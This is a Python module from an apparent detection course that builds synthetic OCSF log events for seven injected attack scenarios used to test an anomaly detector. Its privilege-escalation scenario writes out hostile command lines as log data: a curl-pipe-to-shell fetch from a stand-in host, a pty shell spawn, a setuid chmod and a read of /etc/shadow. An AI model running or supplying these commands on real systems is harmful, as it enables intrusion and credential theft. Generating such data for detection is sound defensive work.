"""The seven injected attack scenarios of the OCSF generator, and how many events each gets.

Chapter "The OCSF pipeline" (through :mod:`tabresnet_course.ocsf.generator`). A scenario builder draws
normal events of its class with :mod:`tabresnet_course.ocsf.classes` and overwrites the
attributes the attack changes; events of one campaign share an attacker, a victim and a time
window, whose sizes and lengths come from the profile's scenario plan
(:class:`~tabresnet_course.ocsf.profiles.ScenarioPlan`). Labels never go inside the events: the generator keeps them in a separate table.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np

from tabresnet_course.ocsf.classes import (
    build_api,
    build_authentication,
    build_file,
    build_http,
    build_network,
    build_process,
)
from tabresnet_course.ocsf.profiles import DEFAULT_PROFILE, GeneratorProfile, ScenarioPlan, get_profile
from tabresnet_course.ocsf.schema import AUTH_PROTOCOL_NAMES, LOGON_TYPE_NAMES, captions
from tabresnet_course.ocsf.world import (
    ATTACKER_COUNTRIES,
    Block,
    World,
    constant,
    lognormal_int,
    pick,
)
from tabresnet_course.values import MS_PER_DAY, MS_PER_HOUR

__all__ = [
    "CHANGED_FEATURES",
    "SCENARIOS",
    "SCENARIO_BUILDERS",
    "ScenarioBlocks",
    "scenario_counts",
]

SCENARIOS: tuple[str, ...] = (
    "data_exfiltration",
    "port_scan",
    "latency_error_storm",
    "brute_force",
    "privilege_escalation",
    "off_hours_new_country",
    "latency_drift",
)
"""Injected anomaly scenarios, roughly from easy to hard for a kNN detector."""

ScenarioBlocks = list[tuple[int, Block, np.ndarray]]
"""What a scenario builder returns: ``(class_uid, block, campaign)`` triples, where ``campaign``
holds the (0-based) campaign of each event of the block."""

# Service name of well-known ports (a port scan's connections are labelled with them).
_WELL_KNOWN_SERVICES = {
    21: "ftp",
    22: "ssh",
    23: "telnet",
    25: "smtp",
    53: "dns",
    80: "http",
    88: "kerberos",
    110: "pop3",
    123: "ntp",
    135: "msrpc",
    139: "netbios-ssn",
    143: "imap",
    389: "ldap",
    443: "https",
    445: "smb",
    636: "ldaps",
    993: "imaps",
    1433: "mssql",
    3306: "mysql",
    3389: "rdp",
    5432: "postgresql",
    6379: "redis",
    8080: "http-alt",
    8443: "https-alt",
}

# API calls (service, operation) an intruder makes after an off-hours logon.
_RECON_OPERATIONS = (
    ("secrets", "ListSecrets"),
    ("secrets", "GetSecretValue"),
    ("storage", "ListObjects"),
    ("storage", "GetObject"),
    ("iam", "ListRoles"),
    ("iam", "GetUser"),
    ("compute", "DescribeInstances"),
)


# --------------------------------------------------------------------------------------------
# Injected scenarios: each returns ScenarioBlocks with exactly `count` events in total
# --------------------------------------------------------------------------------------------


def _plan(world: World, name: str) -> ScenarioPlan:
    """The plan of scenario ``name`` in the world's profile."""
    return world.profile.scenario_plan[name]


def _campaign_starts(
    rng: np.random.Generator, count: int, plan: ScenarioPlan, start_ms: int, days: int
) -> tuple[np.ndarray, np.ndarray]:
    """Campaign index of each of ``count`` events and a start time per campaign (early enough
    for the campaign's window to end inside the period)."""
    campaign = np.arange(count) // plan.campaign_size
    margin_ms = max(2 * MS_PER_HOUR, plan.window_ms[1])
    starts = start_ms + rng.integers(0, max(days * MS_PER_DAY - margin_ms, 1), size=int(campaign.max()) + 1)
    return campaign, starts


def _exfiltration(rng, world, count, start_ms, days) -> ScenarioBlocks:
    """Huge uploads at night from one workstation to a rare external address."""
    plan = _plan(world, "data_exfiltration")
    block = build_network(rng, world, count, start_ms, days)
    campaign, _ = _campaign_starts(rng, count, plan, start_ms, days)
    n_campaigns = int(campaign.max()) + 1
    victims = rng.choice(world.num_users, size=n_campaigns, replace=n_campaigns > world.num_users)
    day = rng.integers(0, days, size=n_campaigns)
    night = (world.work_start_utc[victims] + world.work_hours[victims] + rng.uniform(3, 6, n_campaigns)) % 24
    t0 = start_ms + day * MS_PER_DAY + (night * MS_PER_HOUR).astype(np.int64)
    rare_ip = np.array([f"203.0.113.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
    user = victims[campaign]
    block.update(
        {
            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
            "activity_id": rng.choice((6, 2), size=count),
            "status_id": np.ones(count, dtype=np.int64),
            "severity_id": np.ones(count, dtype=np.int64),
            "duration": rng.integers(600_000, 3_600_000, size=count),
            "src_endpoint.ip": world.ip[user],
            "dst_endpoint.ip": rare_ip[campaign],
            "dst_endpoint.port": np.full(count, 443),
            "dst_endpoint.svc_name": constant("https", count),
            "connection_info.protocol_name": constant("tcp", count),
            "connection_info.direction_id": np.full(count, 2),
            "connection_info.direction": constant("Outbound", count),
            "traffic.bytes_out": lognormal_int(rng, 3e9, 0.5, count),
            "traffic.bytes_in": lognormal_int(rng, 2e5, 0.5, count),
        }
    )
    block["traffic.packets_out"] = block["traffic.bytes_out"] // 1200 + 1
    block["traffic.packets_in"] = block["traffic.bytes_in"] // 1200 + 1
    return [(4001, block, campaign)]


def _port_scan(rng, world, count, start_ms, days) -> ScenarioBlocks:
    """Many refused or reset connections from one host to many ports of one server."""
    plan = _plan(world, "port_scan")
    servers = world.profile.servers
    block = build_network(rng, world, count, start_ms, days)
    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
    n_campaigns = len(t0)
    scanners = rng.choice(world.num_users, size=n_campaigns)
    targets = pick(tuple(servers.values()), rng.integers(0, len(servers), size=n_campaigns))
    ports = np.concatenate([rng.permutation(np.arange(1, 1025)) for _ in range(n_campaigns)])[:count]
    ports = np.where(rng.random(count) < 0.15, rng.integers(1025, 65536, size=count), ports)
    activity = rng.choice((5, 3, 1), size=count, p=(0.7, 0.25, 0.05))
    block.update(
        {
            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
            "activity_id": activity,
            "status_id": np.where(activity == 5, 2, 1),
            "severity_id": np.where(activity == 5, 2, 1),
            "duration": rng.integers(0, 4, size=count),
            "src_endpoint.ip": world.ip[scanners][campaign],
            "dst_endpoint.ip": targets[campaign],
            "dst_endpoint.port": ports,
            "dst_endpoint.svc_name": np.array(
                [_WELL_KNOWN_SERVICES.get(int(p), "unknown") for p in ports], dtype=object
            ),
            "connection_info.protocol_name": constant("tcp", count),
            "connection_info.direction_id": np.full(count, 3),
            "connection_info.direction": constant("Lateral", count),
            "traffic.bytes_out": rng.integers(40, 80, size=count),
            "traffic.bytes_in": rng.integers(0, 60, size=count),
            "traffic.packets_out": np.ones(count, dtype=np.int64),
            "traffic.packets_in": rng.integers(0, 2, size=count),
        }
    )
    return [(4001, block, campaign)]


def _latency_storm(rng, world, count, start_ms, days) -> ScenarioBlocks:
    """A window of 503/504 answers with seconds of latency from the profile's storm service."""
    plan = _plan(world, "latency_error_storm")
    service = [s.name for s in world.profile.http_services].index(world.profile.storm_service)
    block = build_http(rng, world, count, start_ms, days, service=service)
    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
    code = rng.choice((503, 504, 500), size=count, p=(0.6, 0.3, 0.1))
    block.update(
        {
            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
            "status_id": np.full(count, 2),
            "severity_id": np.full(count, 3),
            "http_response.code": code,
            "http_response.latency": rng.integers(2_000, 30_000, size=count),
        }
    )
    return [(4002, block, campaign)]


def _brute_force(rng, world, count, start_ms, days) -> ScenarioBlocks:
    """Runs of failed network logons against many accounts from one external address."""
    plan = _plan(world, "brute_force")
    sso = world.profile.servers["sso"]
    block = build_authentication(rng, world, count, start_ms, days)
    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
    n_campaigns = len(t0)
    attacker_ip = np.array([f"192.0.2.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
    attacker_country = pick(ATTACKER_COUNTRIES, rng.integers(0, len(ATTACKER_COUNTRIES), size=n_campaigns))
    generic = np.array(("admin", "administrator", "root", "test", "guest", "oracle", "backup"), dtype=object)
    names = np.where(
        rng.random(count) < 0.5,
        world.user_name[rng.integers(0, world.num_users, size=count)],
        generic[rng.integers(0, len(generic), size=count)],
    )
    protocol = rng.choice((11, 1), size=count)
    block.update(
        {
            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
            "activity_id": np.ones(count, dtype=np.int64),
            "status_id": np.full(count, 2),
            "severity_id": np.full(count, 2),
            "duration": lognormal_int(rng, 15.0, 0.5, count),
            "user.name": names,
            "src_endpoint.ip": attacker_ip[campaign],
            "src_endpoint.location.country": attacker_country[campaign],
            "dst_endpoint.hostname": constant("sso", count),
            "dst_endpoint.ip": constant(sso, count),
            "dst_endpoint.svc_name": constant("sso", count),
            "auth_protocol_id": protocol,
            "auth_protocol": captions(AUTH_PROTOCOL_NAMES, protocol),
            "logon_type_id": np.full(count, 3),
            "logon_type": constant(LOGON_TYPE_NAMES[3], count),
            "is_mfa": np.zeros(count, dtype=bool),
            "is_remote": np.ones(count, dtype=bool),
        }
    )
    return [(3002, block, campaign)]


def _privilege_escalation(rng, world, count, start_ms, days) -> ScenarioBlocks:
    """The web server spawns a shell that fetches a script, calls setuid root and reads /etc/shadow."""
    chain = (  # parent, name, cmd_line, process user, actor, activity
        ("nginx", "sh", "sh -c curl -s http://203.0.113.66/x.sh | sh", "www-data", "www-data", 1),
        ("sh", "curl", "curl -s http://203.0.113.66/x.sh", "www-data", "www-data", 1),
        ("sh", "python3", "python3 -c import pty; pty.spawn('/bin/bash')", "www-data", "www-data", 1),
        ("python3", "bash", "/bin/bash -i", "root", "www-data", 5),
        ("bash", "chmod", "chmod u+s /tmp/.x", "root", "root", 1),
    )
    plan = _plan(world, "privilege_escalation")
    step = np.arange(count) % plan.campaign_size
    is_process = step < len(chain)
    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
    host = pick(("web01", "web02"), rng.integers(0, 2, size=len(t0)))[campaign]
    times = t0[campaign] + step * rng.integers(*plan.window_ms, size=count)
    out: ScenarioBlocks = []
    p = np.flatnonzero(is_process)
    if len(p):
        parent, name, cmd, user, actor, activity = (np.array(c, dtype=object) for c in zip(*chain))
        s = step[p]
        block = build_process(rng, world, len(p), start_ms, days)
        block.update(
            {
                "time": times[p],
                "activity_id": activity[s].astype(np.int64),
                "actor.user.name": actor[s],
                "device.hostname": host[p],
                "process.name": name[s],
                "process.cmd_line": cmd[s],
                "process.user.name": user[s],
                "process.parent_process.name": parent[s],
            }
        )
        out.append((1007, block, campaign[p]))
    f = np.flatnonzero(~is_process)
    if len(f):
        block = build_file(rng, world, len(f), start_ms, days)
        block.update(
            {
                "time": times[f],
                "activity_id": np.full(len(f), 2),
                "actor.user.name": constant("root", len(f)),
                "device.hostname": host[f],
                "file.name": constant("shadow", len(f)),
                "file.path": constant("/etc/shadow", len(f)),
                "file.size": rng.integers(900, 1_600, size=len(f)),
            }
        )
        out.append((1001, block, campaign[f]))
    return out


def _off_hours_logon(rng, world, count, start_ms, days) -> ScenarioBlocks:
    """A logon in the user's night from a new country without MFA, then a run of API reads."""
    plan = _plan(world, "off_hours_new_country")
    sso = world.profile.servers["sso"]
    campaign = np.arange(count) // plan.campaign_size
    step = np.arange(count) % plan.campaign_size
    n_campaigns = int(campaign.max()) + 1
    victims = rng.choice(world.num_users, size=n_campaigns, replace=n_campaigns > world.num_users)
    day = rng.integers(0, days, size=n_campaigns)
    night = (world.work_start_utc[victims] - rng.uniform(3, 5, n_campaigns)) % 24
    t0 = start_ms + day * MS_PER_DAY + (night * MS_PER_HOUR).astype(np.int64)
    ip = np.array([f"203.0.113.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
    country = pick(ATTACKER_COUNTRIES, rng.integers(0, len(ATTACKER_COUNTRIES), size=n_campaigns))
    times = t0[campaign] + step * rng.integers(*plan.window_ms, size=count)
    out: ScenarioBlocks = []
    a = np.flatnonzero(step == 0)
    block = build_authentication(rng, world, len(a), start_ms, days)
    c = campaign[a]
    block.update(
        {
            "time": times[a],
            "activity_id": np.ones(len(a), dtype=np.int64),
            "status_id": np.ones(len(a), dtype=np.int64),
            "severity_id": np.ones(len(a), dtype=np.int64),
            "user.name": world.user_name[victims[c]],
            "src_endpoint.ip": ip[c],
            "src_endpoint.location.country": country[c],
            "dst_endpoint.hostname": constant("sso", len(a)),
            "dst_endpoint.ip": constant(sso, len(a)),
            "dst_endpoint.svc_name": constant("sso", len(a)),
            "auth_protocol_id": np.full(len(a), 5),
            "auth_protocol": constant("SAML", len(a)),
            "logon_type_id": np.full(len(a), 3),
            "logon_type": constant(LOGON_TYPE_NAMES[3], len(a)),
            "is_mfa": np.zeros(len(a), dtype=bool),
            "is_remote": np.ones(len(a), dtype=bool),
        }
    )
    out.append((3002, block, c))
    r = np.flatnonzero(step > 0)
    if len(r):
        block = build_api(rng, world, len(r), start_ms, days)
        c = campaign[r]
        op = rng.integers(0, len(_RECON_OPERATIONS), size=len(r))
        block.update(
            {
                "time": times[r],
                "activity_id": np.full(len(r), 2),
                "status_id": np.ones(len(r), dtype=np.int64),
                "severity_id": np.ones(len(r), dtype=np.int64),
                "actor.user.name": world.user_name[victims[c]],
                "src_endpoint.ip": ip[c],
                "api.service.name": pick([o[0] for o in _RECON_OPERATIONS], op),
                "api.operation": pick([o[1] for o in _RECON_OPERATIONS], op),
            }
        )
        out.append((6003, block, c))
    return out


def _latency_drift(rng, world, count, start_ms, days) -> ScenarioBlocks:
    """The profile's drift service slowly gets slower (x1.5 to x3) over the second half of the
    period (one campaign)."""
    service = [s.name for s in world.profile.http_services].index(world.profile.drift_service)
    block = build_http(rng, world, count, start_ms, days, service=service)
    half = start_ms + days * MS_PER_DAY // 2
    end = start_ms + days * MS_PER_DAY
    times = half + rng.integers(0, end - half, size=count)
    progress = (times - half) / (end - half)
    block["time"] = times
    block["http_response.latency"] = np.maximum(
        np.rint(block["http_response.latency"] * (1.5 + 1.5 * progress)), 1
    ).astype(np.int64)
    return [(4002, block, np.zeros(count, dtype=np.int64))]


SCENARIO_BUILDERS: dict[str, Callable[..., ScenarioBlocks]] = {
    "data_exfiltration": _exfiltration,
    "port_scan": _port_scan,
    "latency_error_storm": _latency_storm,
    "brute_force": _brute_force,
    "privilege_escalation": _privilege_escalation,
    "off_hours_new_country": _off_hours_logon,
    "latency_drift": _latency_drift,
}
"""The builder of each scenario: ``(rng, world, count, start_ms, days) -> ScenarioBlocks``."""


CHANGED_FEATURES: dict[str, frozenset[str]] = {
    "data_exfiltration": frozenset({"bytes_out"}),
    # The logon carries the new country; the API reads that follow carry only the attacker's
    # address (from that country), so the address counts as "new country" too.
    "off_hours_new_country": frozenset({"src_country", "src_subnet", "hour"}),
    "latency_error_storm": frozenset({"latency", "http_status"}),
    "port_scan": frozenset({"dst_port"}),
    "privilege_escalation": frozenset({"process", "parent_process", "user", "process_user"}),
}
"""For the scenarios that change known attributes, the features of the built-in specification
(``FeatureSpec.default()``) that those attributes feed: an explanation of such an event is right
when it names one of them (chapter "Explaining alerts" and ``tests/test_explain.py``)."""


def scenario_counts(num_events: int, profile: str | GeneratorProfile = DEFAULT_PROFILE) -> dict[str, int]:
    """Number of events each scenario injects into an evaluation period of ``num_events``
    under ``profile``'s scenario plan.

    Chapter "The OCSF pipeline".
    """
    plan = get_profile(profile).scenario_plan
    return {name: max(p.minimum, int(round(p.share * num_events))) for name, p in plan.items()}
